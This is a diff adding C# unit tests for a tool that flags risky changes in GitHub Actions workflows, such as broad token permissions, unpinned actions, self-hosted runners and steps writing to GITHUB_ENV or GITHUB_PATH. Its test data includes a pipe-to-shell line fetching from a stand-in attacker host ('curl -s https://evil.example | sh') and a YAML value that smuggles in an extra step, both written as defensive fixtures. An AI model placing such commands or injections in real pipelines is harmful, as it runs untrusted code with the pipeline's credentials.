@@ -241,6 +241,71 @@ public sealed class EvidenceTests
     }
 
     [Theory]
+    [InlineData("run: make", "run: curl -s https://evil.example | sh")]
+    [InlineData("run: make", "run: make }, { uses: acme/other@v1")]
+    [InlineData("acme/a@v1", "acme/a@v2")]
+    [InlineData("runs-on: ubuntu-24.04", "runs-on: self-hosted")]
+    public void What_runs_with_a_token_that_is_too_broad_is_what_was_decided_on(string old, string added)
+    {
+        const string Jobs = "jobs:\n  a: { runs-on: ubuntu-24.04, steps: [{ uses: acme/a@v1 }, { run: make }] }\n";
+        Assert.All(
+            new[] { "on: push\npermissions: write-all\n" + Jobs, "on: push\n" + Jobs, "on: push\npermissions: { contents: write }\n" + Jobs.Replace("jobs:\n", "jobs:\n  b: { runs-on: ubuntu-24.04, steps: [{ run: make b }] }\n", StringComparison.Ordinal) },
+            text => Assert.Contains("what it rests on is something else", Changed("PO3207", Path, text, old, added), StringComparison.Ordinal));
+        Assert.Contains(
+            "what it rests on is something else",
+            Changed("PO3207", Path, "on: push\npermissions: {}\n" + Jobs.Replace("a: { ", "a: { permissions: write-all, ", StringComparison.Ordinal), old, added), StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void A_bot_that_renews_a_pin_by_content_needs_no_other_decision_on_the_token()
+    {
+        var pinned = $"on: push\npermissions: write-all\njobs:\n  a: {{ runs-on: ubuntu-24.04, steps: [{{ uses: acme/a@{new string('a', 40)} }}] }}\n";
+
+        Assert.Equal("", Changed("PO3207", Path, pinned, new string('a', 40), new string('b', 40)));
+    }
+
+    [Theory]
+    [InlineData("echo TARGET=prod >> $GITHUB_ENV")]
+    [InlineData("echo $PWD/evil >> \"$GITHUB_PATH\"")]
+    [InlineData("Add-Content $Env:GITHUB_ENV x=y")]
+    [InlineData("echo '::set-env name=A::b'")]
+    public void A_script_before_that_sets_the_environment_of_a_step_needs_another_decision(string script)
+    {
+        Assert.Equal("job 'build': scripts before that set its environment is new", Changed("PO3204", Path, Workflow, "      - name: Build\n", $"      - run: {script}\n      - name: Build\n"));
+        Assert.Equal("", Changed("PO3204", Path, Workflow, "          target: all\n", $"          target: all\n      - run: {script}\n"));
+    }
+
+    [Fact]
+    public void Scripts_that_set_the_environment_count_each_however_many_there_are()
+    {
+        string Steps(string last) => string.Concat(Enumerable.Range(0, 90).Select(step => $"      - run: echo A={(step == 89 ? last : "a")} >> $GITHUB_ENV\n"));
+        var before = EvidenceTree.Judge((Path, Replaced(Workflow, "      - name: Build\n", Steps("a") + "      - name: Build\n")));
+        var after = EvidenceTree.Judge((Path, Replaced(Workflow, "      - name: Build\n", Steps("b") + "      - name: Build\n")));
+
+        Assert.Equal(["job 'build': scripts before that set its environment is something else"], EvidenceTree.Changes("PO3204", before, after));
+    }
+
+    [Theory]
+    [InlineData("b", 'b', 99)]
+    [InlineData("b", 'b', 200)]
+    public void Parts_whose_names_are_too_long_to_show_do_not_change_places(string name, char more, int length)
+    {
+        var job = name + new string(more, length);
+        var text = $"on: push\njobs:\n  {job}:\n    runs-on: ubuntu-24.04\n    permissions: {{ contents: read }}\n    env: {{ contents: write }}\n    steps:\n      - uses: acme/build@v1\n";
+        var swapped = text.Replace("read", "REST", StringComparison.Ordinal).Replace("write", "read", StringComparison.Ordinal).Replace("REST", "write", StringComparison.Ordinal);
+
+        Assert.Equal(2, EvidenceTree.Changes("PO3204", EvidenceTree.Judge((Path, text)), EvidenceTree.Judge((Path, swapped))).Count);
+    }
+
+    [Fact]
+    public void Names_that_are_written_alike_are_not_one_part()
+    {
+        const string Tricky = "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    x\u0001: 1\n    \"x\\x01\": 2\n    steps:\n      - uses: acme/build@v1\n";
+
+        Assert.DoesNotContain(EvidenceTree.Judge((Path, Tricky)).Snapshot.Evidence, evidence => evidence.Parts.GroupBy(part => part.Name, StringComparer.Ordinal).Any(group => group.Count() > 1));
+    }
+
+    [Theory]
     [InlineData("/src/ @alice\n", "/src/ @alice\n/build/ @alice\n", "line '/build/' is new, what it rests on is something else")]
     [InlineData("/src/ @alice\n", "/docs/ @acme/docs\n/src/    @alice # why\n", "")]
     public void A_line_of_code_owners_is_bound_and_its_neighbours_are_not(string old, string added, string expected) =>
